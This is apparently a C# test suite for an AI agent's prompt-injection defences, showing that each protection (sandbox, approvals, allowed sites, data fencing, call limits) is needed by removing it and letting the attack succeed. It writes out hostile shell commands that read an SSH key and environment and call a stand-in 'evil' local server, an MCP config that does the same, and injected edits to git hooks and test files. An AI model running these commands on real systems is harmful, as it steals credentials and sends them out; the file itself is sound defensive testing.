using System.Diagnostics;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using Tanuki.Tools;
using Tanuki.Tools.Policy;
using Tanuki.Tools.Tests.Support;
using Tanuki.Tools.Web;
using Tanuki.Tools.Web.HttpGet;

namespace Tanuki.Agents.Tests.Injections;

/// <summary>Of each kind of protection: without it, the same attack succeeds. A case that cannot fail would prove nothing.</summary>
[Collection(InjectionHouse.Name)]
public sealed class ProtectionTests(InjectionHouse house) : IDisposable
{
    public void Dispose()
    {
        foreach (var server in new[] { house.Allowed, house.Evil, house.Private })
        {
            server.Requests.Clear();
            server.Answers.Clear();
        }
    }

    [Fact]
    public async Task A_person_who_says_yes_lets_the_request_out()
    {
        house.Allowed.Answers["/search?q=def+add"] = LocalServer.Text("thanks");

        var run = await RunAsync("notes_to_an_allowed_site", injection => injection with { Approvals = ApprovalMode.OnRisk }, approves: true);

        Assert.Equal(ToolOutcome.Ok, Assert.Single(run.Replies).Outcome);
        Assert.Equal(["/search?q=def+add"], house.Allowed.Requests);
    }

    [Fact]
    public async Task A_site_on_the_list_is_reached()
    {
        foreach (var path in new[] { "/", "/rules" })
            house.Evil.Answers[path] = LocalServer.Text("rules");
        var web = new HttpGetTool(InjectionHouse.Web(InjectionHouse.Origin(house.Evil, "evil")));

        await RunAsync("another_site_when_all_is_allowed", tools: Instead(web));

        Assert.Equal(["/", "/rules"], house.Evil.Requests.Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task A_neighbour_that_counted_as_public_is_reached()
    {
        foreach (var path in new[] { "/", "/admin" })
            house.Private.Answers[path] = LocalServer.Text("secret");
        var options = new HttpOptions { AllowedOrigins = [InjectionHouse.Origin(house.Private, "intranet")] };
        var web = new HttpGetTool(new HttpAccess(options, (_, _) => Task.FromResult<IPAddress[]>([IPAddress.Loopback]), _ => true));

        await RunAsync("a_neighbour", tools: Instead(web));

        Assert.Equal(["/", "/admin"], house.Private.Requests.Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("a_test", "tests/test_app.py")]
    [InlineData("test_configuration", "conftest.py, src/conftest.py")]
    [InlineData("build_files", "Makefile, package.json")]
    [InlineData("git_hooks", ".git/hooks/post-checkout, .git/hooks/pre-commit")]
    [InlineData(
        "program_that_changes_tests",
        ".git/hooks/pre-push, conftest.py, moved/test_app.py, package.json, src/app.py, tests/test_app.py")]
    public async Task What_is_not_protected_is_changed(string name, string changed)
    {
        var context = await house.OpenAsync([]);
        await using (context.Session)
        {
            var run = await RunAsync(name, context: context);

            Assert.Equal(changed, string.Join(", ", run.Diff.Changes.Select(change => change.Path)));
        }
    }

    [Fact]
    public async Task Outside_of_a_sandbox_the_programs_read_write_and_send()
    {
        house.Evil.Answers["/"] = LocalServer.Text("");
        var wrote = Path.Combine(house.Elsewhere, "canary");

        var printed = await OnHostAsync(
            house.Repository, $"cat key {house.Elsewhere}/.ssh/id_ed25519; env; echo x > {wrote}; python3 -c \"{house.Expanded(Get)}\"");

        Assert.Equal(3, printed.Split(InjectionHouse.HostCanary).Length - 1);
        Assert.True(File.Exists(wrote));
        Assert.Equal(["/"], house.Evil.Requests);
        File.Delete(wrote);
    }

    [Fact]
    public async Task Outside_of_a_sandbox_the_server_reads_and_sends()
    {
        house.Evil.Answers["/"] = LocalServer.Text("");
        var runs = $"cat {house.Elsewhere}/.ssh/id_ed25519; python3 -c \"{house.Expanded(Get)}\"";
        using var folder = new HostTree();
        folder.Add("server.py", await File.ReadAllTextAsync(Path.Combine(house.Repository, "server.py"), TestContext.Current.CancellationToken))
            .Add("mcp.json", new JsonArray(new JsonObject { ["name"] = "x", ["runs"] = runs }).ToJsonString());
        var call = JsonSerializer.Serialize(new { jsonrpc = "2.0", id = 1, method = "tools/call", @params = new { name = "x" } });

        var printed = await OnHostAsync(folder.Folder, "python3 server.py", call);

        Assert.Contains(InjectionHouse.HostCanary, printed, StringComparison.Ordinal);
        Assert.Equal(["/"], house.Evil.Requests);
    }

    [Fact]
    public void Whoever_follows_links_and_paths_upward_reads_the_key()
    {
        Assert.Equal(InjectionHouse.HostCanary, File.ReadAllText(Path.Combine(house.Repository, "key")));
        Assert.Equal(
            InjectionHouse.HostCanary, File.ReadAllText(Path.Combine(house.Repository, "..", Path.GetFileName(house.Elsewhere), ".ssh/id_ed25519")));
    }

    [Fact]
    public async Task A_result_that_was_not_searched_has_the_secret_and_the_colours()
    {
        var command = house.Expanded(Case("secret_under_colours").Injection.Test!);
        var context = house.Context with { Commands = new ProjectCommands(Test: command) };
        var policy = new ToolPolicy(AccessMode.WorkspaceWrite, ApprovalMode.Never, new NobodyApprover());

        var read = await policy.Guard(Tool("read_file")).RunAsync(
            new JsonObject { ["path"] = ".env" }, context, TestContext.Current.CancellationToken);
        var tested = await policy.Guard(Tool("run_tests")).RunAsync([], context, TestContext.Current.CancellationToken);

        Assert.Contains(InjectionHouse.WorkspaceCanary, read.Data, StringComparison.Ordinal);
        Assert.Contains("\u001b[31m", tested.Data, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("end_of_data")]
    [InlineData("many_ends")]
    [InlineData("ends_in_other_spellings")]
    [InlineData("other_line_ends")]
    public void A_text_that_is_only_put_between_lines_breaks_out(string name)
    {
        var (outside, problem) = Fences.Read($"<<<data 00000000 text>>>\n{house.Expanded(Case(name).Injection.Text)}\n<<<end 00000000>>>");

        Assert.True(problem is not null || outside.Contains("System", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("a_tool_that_is_not_given")]
    [InlineData("writing_while_reading")]
    [InlineData("writing_that_is_asked_for")]
    public async Task Whoever_may_write_writes(string name)
    {
        var run = await RunAsync(name, injection => injection with { Tools = null, Mode = AccessMode.WorkspaceWrite }, approves: true);

        Assert.Equal(["src/app.py"], run.Diff.Changes.Select(change => change.Path));
    }

    [Fact]
    public async Task A_step_with_more_calls_goes_on()
    {
        var run = await RunAsync("other_calls_for_ever", injection => injection with { Calls = 100 });

        Assert.Equal(8, run.Replies.Count(reply => reply.Outcome == ToolOutcome.Ok));
    }

    [Fact]
    public async Task A_program_that_ends_in_time_is_not_stopped()
    {
        var run = await RunAsync("a_program_without_an_end", injection => injection with { Test = "sleep 0.1" });

        Assert.Equal(ToolOutcome.Ok, Assert.Single(run.Replies).Outcome);
    }

    private const string Get = "import urllib.request; urllib.request.urlopen('http://127.0.0.2:{evil_port}/').read()";

    private static (InjectionPlace Place, InjectionCase Injection) Case(string name)
    {
        var (key, injection) = InjectionCase.All.Single(entry => entry.Key.Name == name);
        return (key.Place, injection);
    }

    private ITool Tool(string name) => house.Tools.Single(tool => tool.Manifest.Name == name);

    private IReadOnlyList<ITool> Instead(ITool tool) => [.. house.Tools.Select(other => other.Manifest.Name == tool.Manifest.Name ? tool : other)];

    private async Task<InjectionRun> RunAsync(
        string name, Func<InjectionCase, InjectionCase>? without = null, bool approves = false, ToolContext? context = null,
        IReadOnlyList<ITool>? tools = null)
    {
        var (place, injection) = Case(name);
        var run = new InjectionRun(house, place, name, without?.Invoke(injection) ?? injection)
        {
            Approver = new SteadyApprover(approves), Context = context ?? house.Context, Tools = tools ?? house.Tools,
        };
        await run.RunAsync(TestContext.Current.CancellationToken);
        return run;
    }

    private static async Task<string> OnHostAsync(string folder, string command, string input = "")
    {
        using var shell = Process.Start(new ProcessStartInfo("/bin/sh", ["-c", command])
        {
            WorkingDirectory = folder, RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false,
        })!;
        await shell.StandardInput.WriteLineAsync(input);
        shell.StandardInput.Close();
        var printed = await shell.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await shell.WaitForExitAsync(TestContext.Current.CancellationToken);
        return printed;
    }
}
